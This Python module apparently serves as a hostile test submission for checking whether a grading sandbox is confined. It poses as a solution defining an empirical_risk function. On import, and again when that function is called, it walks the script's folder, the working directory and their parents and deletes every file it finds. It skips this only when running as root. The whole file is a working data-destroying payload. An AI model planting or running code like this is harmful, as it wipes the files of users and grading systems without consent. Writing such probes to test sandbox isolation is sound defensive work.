"""Change directory upwards and delete every file found near the submission."""

import os

_NEAR = [os.path.dirname(os.path.abspath(__file__)), os.getcwd()]


def _delete_near():
    if os.getuid() == 0:
        return  # not confined: this attack would do real damage
    for folder in list(_NEAR):
        for place in (folder, os.path.dirname(folder)):
            os.chdir(place)
            for name in os.listdir("."):
                try:
                    os.remove(name)
                except OSError:
                    pass
    os.chdir("..")
    os.chdir("..")


_delete_near()


def empirical_risk(Y, d, divergence):  # noqa: F811
    _delete_near()
    raise NotImplementedError
